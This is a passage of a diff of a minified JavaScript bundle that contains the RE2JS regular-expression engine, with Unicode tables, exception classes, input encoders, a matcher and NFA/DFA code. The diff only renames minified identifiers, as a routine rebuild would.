 GGBCQBDGBCBBCEBG9BBiBxDxDBrBBENBDJBFBBhKeBS5BBGxOxOBoBB3GqBBFhGhGBdBCVBJBBhHGBCDBCBBCOBCkGBDPBqBrCBFJBFBByYjCBtC8BBjGDBC\
 aBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBBvIrBBFjDBNOBDOBCOBCkBBLtFB5BcBOrBBFIBIBBPFB7E4eB\
 EQBEMBE5GBHLBFQQBKBF3BBJJBHnBBJdBDLBFBBPIBoB3KBJNBDMBEKBE4BBCFFBOBDLBFJBIyEBCmDBmgB-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6E\
-BGppIBnkzVvHB",!1))),this._Print}static CATEGORIES=new mo({C:()=>new T(I("AfBgDgBBOrWrWBHHBCBICCVuMuMnBBBzBBBE4B4BBGBcDB\
+BGppIBnkzVvHB",!1))),this._Print}static CATEGORIES=new Co({C:()=>new T(I("AfBgDgBBOrWrWBHHBCBICCVuMuMnBBBzBBBE4B4BBGBcDB\
 HQBXhGhGxBBB8BBBmDNB8BBByBBBQddBCCMEBhBGBsCiFiFJBBDBBXIICCBFBBKBBDBBFHBCDBDGGBaaBEEHDBDBBXIIDGDBCCGDBDBBECBCGBFCCBFBSJBE\
 KKEXXIDDGBBLIEBCCBNBFBBNGBIEEJBBDBBXIIDGGBKKBDDBEEBFBEDBDGGBTTBIBDHHBBBEFFBBBDCCDCBDCBECBNDBGCBEFFBCCBEBCNBWEBOEEYRRBKKE\
 FFBFBDEEDBBFBBLGBXEEYLLGBBKEEFGBDEBEFFBLLELBOEE0BEEHDBRBBbEETCBZKKCBBICBCDBHCCJFBLBBELB7BDBekBBDCCGZZCYYBGGCIILBBFfBpClB\
@@ -6110,7 +6118,7 @@ BCCCBEEIJDCMCDQCDDDCCBC4BCIBBCBBDCCBCBCGCiJCCEJJHCCBBBCCCBCCBPBCIBkBDDBBBEWCGDDC
 0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBpCDBNDBNDBNEBMDBnIFFECBDCBDEEBDBHGCBCBDDBLBBGbbBOBUzZzZBYBx5BvBBxBCCBBBDGCBCBC\
 DDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVf\
 BhCYBoqZZBbZBbZBbCCBGDBDDBCBCHBbZBbBBCDBDHBCGBcBBCDBCEBCEEBFBcZBbZBbZBbZBbZBbZBfYBiBYBiBYBiBYBiBYBiB2pE2pEBgBBvgCZBHZBHZ\
-B",!1)),White_Space:()=>new T(I("JEBTlDlDbgvFgvFgsCKBeBBGwBwBh9DAB",!1))});static SCRIPTS=new mo({Adlam:()=>new T(I("go6\
+B",!1)),White_Space:()=>new T(I("JEBTlDlDbgvFgvFgsCKBeBBGwBwBh9DAB",!1))});static SCRIPTS=new Co({Adlam:()=>new T(I("go6\
 DrCFJFB",!0)),Ahom:()=>new T(I("g4lCaDOFW",!0)),Anatolian_Hieroglyphs:()=>new T(I("ggxCmS",!0)),Arabic:()=>new T(I("gwBE\
 BCFBCNBCCBCfBCJBMZBCrDBChBBxCvBBxHhBBGqCBCcBxy8BtPBDvEBhBPBxDEBCmEBk7DeBkCFBJIBiBFBh43BDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBC\
 DDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBB",!1)),Armenian:()=>new T(I("xpBlBDxBDCks9BE",!0)),Avestan:()=>new T(I("g4iC1B\
@@ -6199,7 +6207,7 @@ DBCECEDDCBBCICDCCBFFIKFCLLSEBEGGSzBBDtIBtBDBlDLBQBBQQQmBJBvF3BBeMBtBDBKGBDNBH5EB
 DNBKmBB5KHBPBBOCBMCB6BCCBCBRBBNDBLGB0EoDoDBjgBBh3pBfB-oEBBv0FBBypHOBvThtCB-QhvBBs6EEBrpIm8yVBCdBhD-DBxHvw-FB",!1)),Vai:()=>new T(
 I("gopBrJ",!0)),Vithkuqi:()=>new T(I("wrhCKCOCGCBCKCOCGCB",!0)),Wancho:()=>new T(I("g24D5BGA",!0)),Warang_Citi:()=>new T(
 I("glmCyCNA",!0)),Yezidi:()=>new T(I("g0jCpBCCDB",!0)),Yi:()=>new T(I("ggoBskBE2B",!0)),Zanabazar_Square:()=>new T(I("gw\
-mCnC",!0))});static FOLD_CATEGORIES=new mo({L:()=>new T(I("laA",!0)),LC:()=>new T(I("laA",!0)),Ll:()=>new T(I("hCZBmDWBC\
+mCnC",!0))});static FOLD_CATEGORIES=new Co({L:()=>new T(I("laA",!0)),LC:()=>new T(I("laA",!0)),Ll:()=>new T(I("hCZBmDWBC\
 GBiBuBCEECDOCDuBCBECEBBCCCBCCBBBDDBCBBCCBEBBCBBCECBCCDCCBCCBBBCCCBEEIBBCBBCBBCOCDQCDBBCCCBBBC4BCIBBCBBDCCBCBCGC3HrBrBCEE\
 JHHCCBCCCBCCBPBCIBkBJJCUCGDDCBBDyBBxBgBCK2BCBMCD+CCDlBBq6ClBBCGGzW1CB0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBZHBJHBJHB\
 JEBMEBMDBNEBMEBqJEEBHHxC9zC9zCBuBBxBCCBBBDGCBCBCDDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs\
@@ -6216,7 +6224,7 @@ OCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVfBhCYBoyehBB",!1)
 !1)),Uppercase:()=>new T(I("hDZB7BqBqBBWBCHBCuBCEECDOCDsBCDECBBBDCCDEEGDDECBDDDCCCDFFDEECDDECCGBBCBBCBBCOCBSCDBBCEECkBCE\
 QCJDDBCCFICBEBCBBCCCBEEBCCBCBCEBDCCBDDIDDCBBEFBGLLBnFnFsBCCEEEBBBvBDBCdBCBBECBCWCBDBCGD1BvBBCgBCK0BCDMCBgDCyBlBBq6CqBBDC\
 B5XFBjkCIBCvHvHERRzD0ECGGGC8CCBHBJFBLHBJHBJFBMGCJHBJNBzBBBNSSBPPBEEpLiBiBBOBFsasaBYBn6BvBBCEEBGCHDDLiDCJCCFNNBkBBCGG0oes\
-BCUaCoEMCE8BCLCCDICFFFCBBDSCMOCFCCDOCb9a9advCBi8UZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBvyehBB",!1))});static FOLD_SCRIPT=new mo(
+BCUaCoEMCE8BCLCCDICFFFCBBDSCMOCFCCDOCb9a9advCBi8UZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBvyehBB",!1))});static FOLD_SCRIPT=new Co(
 {Common:()=>new T(I("8cgBgB",!1)),Greek:()=>new T(I("1FwUwU",!1)),Inherited:()=>new T(I("5cgBgBlgHAB",!1))})},$e=class cn{static MAX_RUNE=1114111;static RUNE_ERROR=65533;static isUnsearchable(e){
 return e===cn.RUNE_ERROR||e>=cn.MIN_HIGH_SURROGATE&&e<=cn.MAX_LOW_SURROGATE}static MAX_ASCII=127;static MAX_LATIN1=255;static MAX_BMP=65535;static MIN_FOLD=65;static MAX_FOLD=125251;static MIN_HIGH_SURROGATE=55296;static MAX_HIGH_SURROGATE=56319;static MIN_LOW_SURROGATE=56320;static MAX_LOW_SURROGATE=57343;static MIN_SUPPLEMENTARY_CODE_POINT=65536;static is32(e,t){
 let s=0,r=e.length;for(;s<r;){const i=s+Math.floor((r-s)/2),o=e.getLo(i),c=e.getHi(i);if(o<=t&&t<=c){const l=e.getStride(
@@ -6226,20 +6234,20 @@ getLo(0)&&cn.is32(e,t)}static isPrint(e){return e<=cn.MAX_LATIN1?e>=32&&e<cn.MAX
 if(Bn.CASE_ORBIT.has(e))return Bn.CASE_ORBIT.get(e);if(e<=cn.MAX_ASCII){const t=ce.toLowerCase(e);return t!==e?t:ce.toUpperCase(
 e)}return e}static equalsIgnoreCase(e,t){if(e===t)return!0;if(e<0||t<0)return!1;if(e<=cn.MAX_ASCII&&t<=cn.MAX_ASCII)return 65<=
 e&&e<=90&&(e|=32),65<=t&&t<=90&&(t|=32),e===t;for(let s=cn.simpleFold(e);s!==e;s=cn.simpleFold(s))if(s===t)return!0;return!1}},
-Hr=class extends Error{constructor(n){super(n),this.name="RE2JSException"}},xt=class extends Hr{constructor(n,e=null){let t=`\
+zr=class extends Error{constructor(n){super(n),this.name="RE2JSException"}},xt=class extends zr{constructor(n,e=null){let t=`\
 error parsing regexp: ${n}`;e&&(t+=`: \`${e}\``),super(t),this.name="RE2JSSyntaxException",this.message=t,this.error=n,this.
-input=e}getDescription(){return this.error}getPattern(){return this.input}},zr=class extends Hr{constructor(n){super(n),
-this.name="RE2JSCompileException"}},an=class extends Hr{constructor(n){super(n),this.name="RE2JSGroupException"}},Wp=class extends Hr{constructor(n){
-super(n),this.name="RE2JSFlagsException"}},go=class extends Hr{constructor(n){super(n),this.name="RE2JSInternalException"}};
-const Zc=256,Kp=new Uint8Array(Zc);for(let n=0;n<Zc;n++)Kp[n]=97<=n&&n<=122||65<=n&&n<=90||48<=n&&n<=57||n===95?1:0;let Wc=null,
-Kc=null;var xe=class Ht{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
+input=e}getDescription(){return this.error}getPattern(){return this.input}},Ur=class extends zr{constructor(n){super(n),
+this.name="RE2JSCompileException"}},an=class extends zr{constructor(n){super(n),this.name="RE2JSGroupException"}},Kp=class extends zr{constructor(n){
+super(n),this.name="RE2JSFlagsException"}},yo=class extends zr{constructor(n){super(n),this.name="RE2JSInternalException"}};
+const Wc=256,qp=new Uint8Array(Wc);for(let n=0;n<Wc;n++)qp[n]=97<=n&&n<=122||65<=n&&n<=90||48<=n&&n<=57||n===95?1:0;let Kc=null,
+qc=null;var xe=class Ht{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
 return[]}static isString(e){return typeof e=="string"||Object.prototype.toString.call(e)==="[object String]"}static typeName(e){
 return e===null||typeof e!="object"&&typeof e!="function"?e===null?"null":typeof e:Object.prototype.toString.call(e).slice(
 8,-1)}static checkPattern(e){if(!Ht.isString(e))throw new TypeError(`The pattern must be a string, not ${Ht.typeName(e)}\
  (RE2JS.translateRegExp() converts a RegExp)`)}static checkInput(e){if(!Ht.isString(e)&&!Ht.isByteArray(e))throw new TypeError(
 `The input must be a string or a byte array (Uint8Array or number[]), not ${Ht.typeName(e)}`)}static checkFlags(e){const t=Kt.
 MULTILINE|Kt.DOTALL|Kt.CASE_INSENSITIVE|Kt.DISABLE_UNICODE_GROUPS|Kt.LONGEST_MATCH|Kt.LOOKBEHINDS;if(!Number.isInteger(e)||
-(e&~t)!==0)throw new Wp("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
+(e&~t)!==0)throw new Kp("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
 PS, LONGEST_MATCH, LOOKBEHINDS")}static isByteArray(e){return Array.isArray(e)||Object.prototype.toString.call(e)==="[ob\
 ject Uint8Array]"}static isalnum(e){return ce.CODES[0]<=e&&e<=ce.CODES[9]||ce.CODES.a<=e&&e<=ce.CODES.z||ce.CODES.A<=e&&
 e<=ce.CODES.Z}static unhex(e){return ce.CODES[0]<=e&&e<=ce.CODES[9]?e-ce.CODES[0]:ce.CODES.a<=e&&e<=ce.CODES.f?e-ce.CODES.
@@ -6249,31 +6257,31 @@ CODES["\\"]:t+="\\\\";break;case ce.CODES["	"]:t+="\\t";break;case ce.CODES[`
 `]:t+="\\n";break;case ce.CODES["\r"]:t+="\\r";break;case ce.CODES["\b"]:t+="\\b";break;case ce.CODES["\f"]:t+="\\f";break;default:{
 let s=e.toString(16);e<256?(t+="\\x",s.length===1&&(t+="0"),t+=s):t+=`\\x{${s}}`;break}}return t}static stringToRunes(e){
 const t=String(e),s=[];let r=0;for(;r<t.length;){const i=t.codePointAt(r);s.push(i),r+=i>$e.MAX_BMP?2:1}return new Int32Array(
-s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<Zc?Kp[e]===1:!1}static emptyOpContext(e,t){
+s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<Wc?qp[e]===1:!1}static emptyOpContext(e,t){
 let s=0;return e<0&&(s|=Ht.EMPTY_BEGIN_TEXT|Ht.EMPTY_BEGIN_LINE),e===10&&(s|=Ht.EMPTY_BEGIN_LINE),t<0&&(s|=Ht.EMPTY_END_TEXT|
 Ht.EMPTY_END_LINE),t===10&&(s|=Ht.EMPTY_END_LINE),Ht.isWordRune(e)!==Ht.isWordRune(t)?s|=Ht.EMPTY_WORD_BOUNDARY:s|=Ht.EMPTY_NO_WORD_BOUNDARY,
 s}static quoteMeta(e){return e.split("").map(t=>Ht.METACHARACTERS.indexOf(t)>=0?`\\${t}`:t).join("")}static charCount(e){
 return e>$e.MAX_BMP?2:1}static toArray(e){const t=e.length,s=new Array(t);for(let r=0;r<t;r++)s[r]=e[r];return s}static stringToUtf8ByteArray(e){
-if(globalThis.TextEncoder)return Wc||(Wc=new TextEncoder),Wc.encode(e);{let t=[],s=0;for(let r=0;r<e.length;r++){let i=e.
+if(globalThis.TextEncoder)return Kc||(Kc=new TextEncoder),Kc.encode(e);{let t=[],s=0;for(let r=0;r<e.length;r++){let i=e.
 charCodeAt(r);i<128?t[s++]=i:i<2048?(t[s++]=i>>6|192,t[s++]=i&63|128):(i&64512)===$e.MIN_HIGH_SURROGATE&&r+1<e.length&&(e.
 charCodeAt(r+1)&64512)===$e.MIN_LOW_SURROGATE?(i=$e.MIN_SUPPLEMENTARY_CODE_POINT+((i&1023)<<10)+(e.charCodeAt(++r)&1023),
 t[s++]=i>>18|240,t[s++]=i>>12&63|128,t[s++]=i>>6&63|128,t[s++]=i&63|128):(t[s++]=i>>12|224,t[s++]=i>>6&63|128,t[s++]=i&63|
-128)}return t}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){Kc||(Kc=new TextDecoder("utf-8"));const t=e instanceof
-Uint8Array?e:new Uint8Array(e);return Kc.decode(t)}else{let t=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)t[r++]=
+128)}return t}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){qc||(qc=new TextDecoder("utf-8"));const t=e instanceof
+Uint8Array?e:new Uint8Array(e);return qc.decode(t)}else{let t=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)t[r++]=
 String.fromCharCode(i);else if(i>191&&i<224){let o=e[s++];t[r++]=String.fromCharCode((i&31)<<6|o&63)}else if(i>239&&i<365){
 let o=e[s++],c=e[s++],l=e[s++],B=((i&7)<<18|(o&63)<<12|(c&63)<<6|l&63)-$e.MIN_SUPPLEMENTARY_CODE_POINT;t[r++]=String.fromCharCode(
 $e.MIN_HIGH_SURROGATE+(B>>10)),t[r++]=String.fromCharCode($e.MIN_LOW_SURROGATE+(B&1023))}else{let o=e[s++],c=e[s++];t[r++]=
-String.fromCharCode((i&15)<<12|(o&63)<<6|c&63)}}return t.join("")}}};const qp=(n=[],e=0)=>{const t=Object.create(null);for(let s=0;s<
-n.length;s++){const r=n[s],i=e+s;t[r]=i,t[i]=r}return Object.freeze(t)};var Ss=class mu{static Encoding=qp(["UTF_16","UT\
+String.fromCharCode((i&15)<<12|(o&63)<<6|c&63)}}return t.join("")}}};const Yp=(n=[],e=0)=>{const t=Object.create(null);for(let s=0;s<
+n.length;s++){const r=n[s],i=e+s;t[r]=i,t[i]=r}return Object.freeze(t)};var Ss=class gu{static Encoding=Yp(["UTF_16","UT\
 F_8"]);getEncoding(){throw Error("not implemented")}asCharSequence(){throw Error("not implemented")}asBytes(){throw Error(
-"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===mu.Encoding.UTF_8}isUTF16Encoding(){
-return this.getEncoding()===mu.Encoding.UTF_16}},Yp=class extends Ss{constructor(n=null){super(),this.bytes=n}getEncoding(){
+"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===gu.Encoding.UTF_8}isUTF16Encoding(){
+return this.getEncoding()===gu.Encoding.UTF_16}},Vp=class extends Ss{constructor(n=null){super(),this.bytes=n}getEncoding(){
 return Ss.Encoding.UTF_8}asCharSequence(){return xe.utf8ByteArrayToString(this.bytes)}asBytes(){return this.bytes}length(){
-return this.bytes.length}},ZS=class extends Ss{constructor(n=null){super(),this.charSequence=n}getEncoding(){return Ss.Encoding.
+return this.bytes.length}},VS=class extends Ss{constructor(n=null){super(),this.charSequence=n}getEncoding(){return Ss.Encoding.
 UTF_16}asCharSequence(){return this.charSequence}asBytes(){return xe.stringToUtf8ByteArray(this.charSequence.toString())}length(){
-return this.charSequence.length}},Ts=class{static utf16(n){return xe.checkInput(n),new ZS(n)}static utf8(n){return xe.isByteArray(
-n)?new Yp(n):new Yp(xe.stringToUtf8ByteArray(n))}},tn=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
-return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},WS=class er extends tn{static RUNE_ERROR_STEP=$e.
+return this.charSequence.length}},Ts=class{static utf16(n){return xe.checkInput(n),new VS(n)}static utf8(n){return xe.isByteArray(
+n)?new Vp(n):new Vp(xe.stringToUtf8ByteArray(n))}},tn=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
+return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},QS=class er extends tn{static RUNE_ERROR_STEP=$e.
 RUNE_ERROR<<3|1;constructor(e,t=0,s=e.length){super(),this.bytes=e,this.start=t,this.end=s}hasString(e,t){const s=e.bytes;
 if(s.length===0)return!0;const r=this.indexOf(this.bytes,s,this.start+t);return r!==-1&&r<=this.end-s.length}hasAnyString(e,t){
 return e.automaton8().searchUTF8(this.bytes,this.start+t,this.end)}step(e){if(e+=this.start,e>=this.end)return tn.EOF();
@@ -6288,7 +6296,7 @@ indexOf(this.bytes,e.prefixUTF8,t);return s<0?s:s-t}context(e){e+=this.start;let
 3:-1;return xe.emptyOpContext(t,s)}indexOf(e,t,s=0){let r=t.length;if(r===0)return s<=this.end?s:-1;const i=t[0];let o=this.
 end-r;const c=typeof e.indexOf=="function";let l=s;for(;l<=o;){if(c){if(l=e.indexOf(i,l),l===-1||l>o)return-1}else{for(;l<=
 o&&e[l]!==i;)l++;if(l>o)return-1}let B=!0;for(let d=1;d<r;d++)if(e[l+d]!==t[d]){B=!1;break}if(B)return l;l++}return-1}prefixLength(e){
-return e.prefixUTF8.length}},KS=class extends tn{constructor(n,e=0,t=n.length){super(),this.charSequence=n,this.start=e,
+return e.prefixUTF8.length}},XS=class extends tn{constructor(n,e=0,t=n.length){super(),this.charSequence=n,this.start=e,
 this.end=t}hasString(n,e){const t=this.charSequence.indexOf(n.str,this.start+e);return t!==-1&&t<=this.end-n.str.length}hasAnyString(n,e){
 return n.automaton16().searchUTF16(this.charSequence,this.start+e,this.end)}step(n){if(n+=this.start,n>=this.end)return tn.
 EOF();const e=this.charSequence.charCodeAt(n);if(e<$e.MIN_HIGH_SURROGATE||e>$e.MAX_HIGH_SURROGATE||n+1>=this.end)return e<<
@@ -6296,8 +6304,8 @@ EOF();const e=this.charSequence.charCodeAt(n);if(e<$e.MIN_HIGH_SURROGATE||e>$e.M
 1024+(t-$e.MIN_LOW_SURROGATE)+$e.MIN_SUPPLEMENTARY_CODE_POINT<<3|2:e<<3|1}index(n,e){e+=this.start;const t=this.charSequence.
 indexOf(n.prefix,e);return t<0||t>this.end-n.prefix.length?-1:t-e}context(n){n+=this.start;const e=n>this.start&&n<=this.
 end?this.charSequence.charCodeAt(n-1):-1,t=n<this.end?this.charSequence.charCodeAt(n):-1;return xe.emptyOpContext(e,t)}prefixLength(n){
-return n.prefix.length}},vt=class{static fromUTF8(n,e=0,t=n.length){return new WS(n,e,t)}static fromUTF16(n,e=0,t=void 0){
-return xe.checkInput(n),new KS(n,e,t??n.length)}},Vp=class hg{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,t=!1){
+return n.prefix.length}},vt=class{static fromUTF8(n,e=0,t=n.length){return new QS(n,e,t)}static fromUTF16(n,e=0,t=void 0){
+return xe.checkInput(n),new XS(n,e,t??n.length)}},Qp=class pg{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,t=!1){
 return t?e.indexOf("\\")<0&&e.indexOf("$")<0?e:e.split("").map(s=>{const r=s.codePointAt(0);return r===ce.CODES["\\"]||r===
 ce.CODES.$?`\\${s}`:s}).join(""):e.indexOf("$")<0?e:e.split("").map(s=>s.codePointAt(0)===ce.CODES.$?"$$":s).join("")}constructor(e,t){
 if(e===null)throw new Error("pattern is null");this.patternInput=e;const s=this.patternInput.re2();this.patternGroupCount=
@@ -6346,7 +6354,7 @@ B=B*10+d-48),B>=1&&B<=s){const h=this.group(B);h!==null&&(r+=h)}else r+=e.substr
 this.namedGroups,B)){const d=this.group(B);d!==null&&(r+=d)}i=l+1}}else r+="$",i+=1}return r+e.substring(i)}appendTail(){
 return this.substring(this.appendPos,this.matcherInputLength)}replaceAll(e,t=!1){return this.replace(e,!0,t)}replaceFirst(e,t=!1){
 return this.replace(e,!1,t)}replace(e,t=!0,s=!1){let r="";this.reset();const i=typeof e=="function";let o=null;if(i){if(this.
-groupCount()>=hg.MAX_REPLACER_ARGS)throw new an("Too many capture groups to safely invoke replacer function");o=this.matcherInput.
+groupCount()>=pg.MAX_REPLACER_ARGS)throw new an("Too many capture groups to safely invoke replacer function");o=this.matcherInput.
 isUTF8Encoding()?this.matcherInput.asBytes():this.matcherInput.asCharSequence()}for(;this.find()&&(r+=i?this.appendReplacementFunc(
 e,o):this.appendReplacement(e,s),!!t););return r+=this.appendTail(),r}appendReplacementFunc(e,t){let s="";const r=this.start(),
 i=this.end();this.appendPos<r&&(s+=this.substring(this.appendPos,r)),this.appendPos=i;const o=this.matchArray();return o.
@@ -6369,16 +6377,16 @@ fail";case zt.NOP:return`nop -> ${this.out}`;case zt.LB_WRITE:return`lbwrite ${t
 return`lbcheck ${this.arg} -> ${this.out}`;case zt.RUNE:return this.runes===null?"rune <null>":["rune ",zt.escapeRunes(this.
 runes),(this.arg&oe.FOLD_CASE)!==0?"/i":""," -> ",this.out].join("");case zt.RUNE1:return`rune1 ${zt.escapeRunes(this.runes)}\
  -> ${this.out}`;case zt.RUNE_ANY:return`any -> ${this.out}`;case zt.RUNE_ANY_NOT_NL:return`anynotnl -> ${this.out}`;default:
-throw new Error("unhandled case in Inst.toString")}}},Qp=class pg{constructor(e){this.sparse=new Int32Array(e),this.densePcs=
+throw new Error("unhandled case in Inst.toString")}}},Xp=class mg{constructor(e){this.sparse=new Int32Array(e),this.densePcs=
 new Int32Array(e),this.denseCaps=null,this.size=0,this.ncap=0,this.mainThreads=0}static INITIAL_THREADS=32;init(e){this.
-ncap=e;const t=Math.min(this.densePcs.length,pg.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<t)&&(this.denseCaps=
+ncap=e;const t=Math.min(this.densePcs.length,mg.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<t)&&(this.denseCaps=
 new Int32Array(t))}growCaps(e){const t=this.densePcs.length*this.ncap,s=new Int32Array(Math.min(t,Math.max(e,2*this.denseCaps.
 length)));s.set(this.denseCaps),this.denseCaps=s}contains(e){const t=this.sparse[e];return t<this.size&&this.densePcs[t]===
 e}isEmpty(){return this.size===0}add(e){const t=this.size++;return this.sparse[e]=t,this.densePcs[t]=e,t}clear(){this.size=
 0,this.mainThreads=0}toString(){let e="{";for(let t=0;t<this.size;t++)t!==0&&(e+=", "),e+=this.densePcs[t];return e+="}",
-e}},qS=class{constructor(n){this.pos=-1,this.pcs=new Int32Array(n.numInst()),this.size=0,this.lbTable=new Int32Array(n.numLb+
-1)}reset(){this.pos=-1,this.size=0}},Xp=class mg{static fromRE2(e){const t=new mg;return t.prog=e.prog,t.re2=e,t.q0=new Qp(
-t.prog.numInst()),t.q1=new Qp(t.prog.numInst()),t.addStack=new Int32Array(2*(t.prog.numInst()+1)),t.matched=!1,t.matchcap=
+e}},eT=class{constructor(n){this.pos=-1,this.pcs=new Int32Array(n.numInst()),this.size=0,this.lbTable=new Int32Array(n.numLb+
+1)}reset(){this.pos=-1,this.size=0}},em=class gg{static fromRE2(e){const t=new gg;return t.prog=e.prog,t.re2=e,t.q0=new Xp(
+t.prog.numInst()),t.q1=new Xp(t.prog.numInst()),t.addStack=new Int32Array(2*(t.prog.numInst()+1)),t.matched=!1,t.matchcap=
 new Int32Array(t.prog.numCap<2?2:t.prog.numCap),t.ncap=0,t}constructor(){this.prog=null,this.re2=null,this.q0=null,this.
 q1=null,this.addStack=null,this.matched=!1,this.matchcap=null,this.ncap=0,this.lbTable=null}init(e){this.ncap=e,e>this.matchcap.
 length?this.matchcap=new Int32Array(e).fill(-1):this.matchcap.fill(-1),this.q0.init(e),this.q1.init(e),this.prog.numLb>0&&
@@ -6418,12 +6426,12 @@ NOP:t=h.out;break;case ee.CAPTURE:h.arg<this.ncap&&(c[l++]=-h.arg-1,c[l++]=r[i+h
 LB_WRITE:this.lbTable[Math.abs(h.arg)]=s,t=h.out;break;case ee.LB_CHECK:h.arg>0?t=this.lbTable[h.arg]===s?h.out:0:t=this.
 lbTable[-h.arg]!==s?h.out:0;break;case ee.MATCH:case ee.RUNE:case ee.RUNE1:case ee.RUNE_ANY:case ee.RUNE_ANY_NOT_NL:if(this.
 prog.lbInst[t]===0&&e.mainThreads++,this.ncap>0){const g=d*this.ncap;g+this.ncap>e.denseCaps.length&&e.growCaps(g+this.ncap);
-for(let C=0;C<this.ncap;C++)e.denseCaps[g+C]=r[i+C]}t=0;break;default:throw new go("unhandled")}}if(l===0)return;l-=2;const B=c[l];
-B<0?(r[i-B-1]=c[l+1],t=0):t=B}}};const YS=(n,e,t)=>{let s=-2128831035;for(let r=0;r<n.length;r++)s^=n[r],s=Math.imul(s,16777619);
-s^=e,s=Math.imul(s,16777619);for(let r=0;r<t.length;r++)s^=t[r],s=Math.imul(s,16777619);return s},em=(n,e)=>{if(n.length!==
-e.length)return!1;for(let t=0;t<n.length;t++)if(n[t]!==e[t])return!1;return!0},tm=(n,e,t,s)=>n.flag===t&&em(n.nfaStates,
-e)&&em(n.matchIDs,s),qc=[],Ur=-1;var Co=class{constructor(n,e,t){this.nfaStates=n,this.flag=e,this.isMatch=(e&Yc.FLAG_MATCH)!==
-0,this.matchIDs=t,this.next=null,this.nextAnchored=null}},Yc=class Ut{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,t=8388608){
+for(let C=0;C<this.ncap;C++)e.denseCaps[g+C]=r[i+C]}t=0;break;default:throw new yo("unhandled")}}if(l===0)return;l-=2;const B=c[l];
+B<0?(r[i-B-1]=c[l+1],t=0):t=B}}};const tT=(n,e,t)=>{let s=-2128831035;for(let r=0;r<n.length;r++)s^=n[r],s=Math.imul(s,16777619);
+s^=e,s=Math.imul(s,16777619);for(let r=0;r<t.length;r++)s^=t[r],s=Math.imul(s,16777619);return s},tm=(n,e)=>{if(n.length!==
+e.length)return!1;for(let t=0;t<n.length;t++)if(n[t]!==e[t])return!1;return!0},nm=(n,e,t,s)=>n.flag===t&&tm(n.nfaStates,
+e)&&tm(n.matchIDs,s),Yc=[],Jr=-1;var wo=class{constructor(n,e,t){this.nfaStates=n,this.flag=e,this.isMatch=(e&Vc.FLAG_MATCH)!==
+0,this.matchIDs=t,this.next=null,this.nextAnchored=null}},Vc=class Ut{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,t=8388608){
 this.prog=e,this.maxMem=t,this.stateCache=new Map,this.stateCount=0,this.startStates=new Map,this.failed=!1;for(let s=0;s<
 e.numInst();s++){const r=e.getInst(s).op;if(r===ee.LB_WRITE||r===ee.LB_CHECK){this.failed=!0;break}}this.computeRuneClasses(),
 this.stateBudget=t,this.memBudget=t}computeRuneClasses(){const e=new Set,t=(r,i)=>{e.add(r),e.add(i+1)};for(let r=0;r<this.
@@ -6437,41 +6445,41 @@ s}runeClass(e){return e<=$e.MAX_LATIN1?this.latin1Class[e]:this.searchClass(e)}s
 r=t.length;for(;s<r;){const i=s+r>>1;t[i]<=e?s=i+1:r=i}return s}closure(e,t){const s=new Set,r=Array.from(e);let i=0;for(;r.
